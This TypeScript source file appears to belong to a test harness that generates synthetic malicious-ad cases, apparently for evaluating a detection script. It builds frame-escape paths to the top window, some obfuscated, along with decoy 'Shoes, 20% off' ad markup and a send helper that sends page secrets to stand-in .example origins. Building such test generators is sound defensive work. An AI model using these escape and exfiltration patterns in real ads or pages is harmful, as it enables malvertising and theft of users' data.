import { type Random, randomFrom, randomOf } from '../random.ts'
import type { At, Files } from './at.ts'
import { quoted } from './at.ts'
import type { Carrier } from './carrier.ts'
import { carriers } from './carriers.ts'
import { type Delivery, delivered, deliveries, isInPage } from './deliveries.ts'
import type { Effect } from './effects/effect.ts'
import { effects } from './effects/index.ts'
import { type Obfuscation, obfuscations } from './obfuscations.ts'
import { publisherPage } from './page.ts'
import { type Encoding, encodings, type Transport, transports } from './sends.ts'
import { type Trigger, triggers } from './triggers.ts'

/** The parts of an attack by name. Names outlive changes of the grammar; a seed and a number do not. */
export interface Parts {
  attackClass: string
  effect: string
  trigger: string
  carrier: string
  obfuscation: string
  delivery: Delivery
  slot: string
  path: string
  transport: string
  encoding: string
  /** For details that the parts choose by themselves. */
  detail: number
}

const partNames = [
  'attackClass',
  'effect',
  'trigger',
  'carrier',
  'obfuscation',
  'delivery',
  'slot',
  'path',
  'transport',
  'encoding',
  'detail',
] as const satisfies readonly (keyof Parts)[]

/** A case's parts as one line, and back. */
export const lineFrom = (parts: Parts) => partNames.map((name) => parts[name]).join(' | ')
export function partsFrom(line: string): Parts {
  const values = line.split(' | ')
  const parts = Object.fromEntries(partNames.map((name, index) => [name, values[index]]))
  return { ...parts, detail: Number(parts.detail) } as Parts // written by `lineFrom`
}

export interface Attack {
  index: number
  parts: Parts
  effect: Effect
  trigger: Trigger
  carrier: Carrier
  obfuscation: Obfuscation
  transport: Transport
  encoding: Encoding
}

const slots = ['div-gpt-ad-1700000000000-0', 'div-gpt-ad-side', 'slot', 'c7', 'right-column']
/** How the code gets from the ad's window to the page's. */
const paths = [
  'top',
  'window.top',
  'self.top',
  'parent.top',
  "window['to'+'p']",
  'globalThis.top',
  'document.defaultView.top',
  "Reflect.get(window,'top')",
  '(function(w){while(w!==w.parent)w=w.parent;return w})(window)',
  "Function('return top')()",
]
const origins = [
  'http://promo-zone.example',
  'http://cdn-stat.example',
  'http://go-deals.example',
  'http://static.quickload.example',
]

export interface Filter {
  attackClass?: string | undefined
  delivery?: string | undefined
  effect?: string | undefined
  trigger?: string | undefined
  carrier?: string | undefined
  /** The whole name of one effect. */
  exactEffect?: string
}

/** The `index`th attack of a seed, or undefined if the filter leaves nothing. */
export function composeAttack(seed: number, index: number, filter: Filter = {}): Attack {
  const random = randomOf(seed, index)
  const isWanted = ({ attackClass, name }: Effect) =>
    (!filter.attackClass || attackClass === filter.attackClass) &&
    (!filter.effect || name.includes(filter.effect)) &&
    (!filter.exactEffect || name === filter.exactEffect)
  const wanted = effects.filter(isWanted)
  // Classes are equally likely, however many effects each has.
  const attackClass = random.pick([...new Set(wanted.map((effect) => effect.attackClass))])
  const effect = random.pick(wanted.filter((one) => one.attackClass === attackClass))
  const delivery = random.pick(
    deliveries.filter((name) => (!filter.delivery || name === filter.delivery) && fits(effect, name)),
  )
  const trigger = random.pick(
    triggers.filter((one) => (!filter.trigger || one.name === filter.trigger) && suits(effect, one, delivery)),
  )
  const carrier = random.pick(
    carriers.filter(
      (one) => (!filter.carrier || one.name === filter.carrier) && carries(effect, one, delivery, trigger),
    ),
  )
  const obfuscation = random.pick(obfuscations.filter(({ name }) => !(carrier.isStrict && name === 'with-proxy')))
  const transport = random.pick(transports)
  const encoding = random.pick(encodings)
  const parts: Parts = {
    attackClass,
    effect: effect.name,
    trigger: trigger.name,
    carrier: carrier.name,
    obfuscation: obfuscation.name,
    delivery,
    slot: random.pick(slots),
    path: random.pick(paths),
    transport: transport.name,
    encoding: encoding.name,
    detail: random.below(2 ** 31),
  }
  return { index, parts, effect, trigger, carrier, obfuscation, transport, encoding }
}

const fits = (effect: Effect, delivery: Delivery) => !(effect.isFrameOnly && isInPage(delivery))

function suits(effect: Effect, trigger: Trigger, delivery: Delivery) {
  if (effect.needsActivation) return trigger.activates === true && trigger.act !== 'click-ad'
  if (trigger.act === 'click-ad') return effect.isNeverMeant === true && !effect.isEarly
  // The picture of a page that was scrolled is another.
  if (trigger.act === 'scroll' && effect.sign === 'covered') return false
  if (trigger.act === 'key') return !effect.isEarly
  return !(isInPage(delivery) && trigger.name === 'own-message' && effect.isEarly)
}

function carries(effect: Effect, carrier: Carrier, delivery: Delivery, trigger: Trigger) {
  if (carrier.isFrameOnly && isInPage(delivery)) return false
  if (effect.isInPlace && (carrier.isPageRealm || carrier.isNested)) return false
  // In the page's realm there is no separate ad to click.
  return !(trigger.act === 'click-ad' && (carrier.isPageRealm || carrier.isNested))
}

/** An attack from the names of its parts, as kept cases have it. */
export function attackFrom(parts: Parts, index = 0): Attack {
  const named = <Item extends { name: string }>(items: readonly Item[], name: string) => {
    const item = items.find((one) => one.name === name)
    if (!item) throw new Error(`the grammar has no ${name} any more`)
    return item
  }
  return {
    index,
    parts,
    effect: named(
      effects.filter(({ attackClass }) => attackClass === parts.attackClass),
      parts.effect,
    ),
    trigger: named(triggers, parts.trigger),
    carrier: named(carriers, parts.carrier),
    obfuscation: named(obfuscations, parts.obfuscation),
    transport: named(transports, parts.transport),
    encoding: named(encodings, parts.encoding),
  }
}

export interface Built {
  token: string
  /** The page has it in its cookie, storage, fields and text. */
  secret: string
  html: string
  files: Files
}

/** Everything that the servers have to know for one run of an attack. `tag` is the script under test, or nothing. */
export function buildAttack(attack: Attack, token: string, tag: string): Built {
  const { parts, effect, trigger, carrier, obfuscation, transport, encoding } = attack
  const random = randomFrom(parts.detail)
  const secret = secretOf(token)
  const { at, files } = atFor({ token, secret, random, transport, encoding, isInPage: isInPage(parts.delivery) })
  const body = effect.code(at)
  const code = `var W=${parts.path},D=W.document,S=document.getElementById(${quoted(parts.slot)})||document.body||document.documentElement;function F(){try{${body}}finally{console.debug('k:${token}')}}${trigger.code(at)}`
  const markup = `${picture(random)}${carrier.markup(obfuscation.code(code, random), at)}`
  const { inSlot, after } = delivered(parts.delivery, markup, parts.slot, at)
  return { token, secret, html: publisherPage({ token, secret, tag, slotId: parts.slot, inSlot, after }), files }
}

/** Lower case letters and digits, a letter first, and not to be guessed from the token. */
export const secretOf = (token: string) =>
  `u${Buffer.from([...token].reverse().join(''))
    .toString('hex')
    .slice(0, 18)}`

interface AtOptions extends Pick<At, 'token' | 'secret' | 'random' | 'isInPage'> {
  transport?: Transport
  encoding?: Encoding
}

/** The context of a case's parts, and the files they serve. */
export function atFor({ transport, encoding, ...rest }: AtOptions) {
  const files: Files = new Map()
  const origin = rest.random.pick(origins)
  const at: At = {
    ...rest,
    origin,
    url: (kind) => `${origin}/${kind}/${rest.token}`,
    file(text, extension) {
      const path = `/f/${rest.token}/${files.size}.${extension}`
      files.set(path, text)
      return `${origin}${path}`
    },
    send(expression) {
      if (!transport || !encoding) throw new Error('only attacks send what they take')
      const value = encoding.browser(`String(${expression})`)
      return `var u=${quoted(`${origin}/c/${rest.token}?`)},v=${value};${transport.code(at)}`
    },
  }
  return { at, files }
}

/** The visible, honest-looking part of an attack. */
function picture(random: Random) {
  const colour = random.pick(['#246', '#083', '#734', '#555'])
  return `<div style="width:300px;height:${random.pick([90, 120])}px;background:${colour};color:#fff">Shoes, 20% off</div>`
}

export const titleOf = ({ parts }: Attack) =>
  [parts.attackClass, parts.effect, parts.trigger, parts.carrier, parts.obfuscation, parts.delivery, parts.slot]
    .map((part) => part)
    .join(' | ')
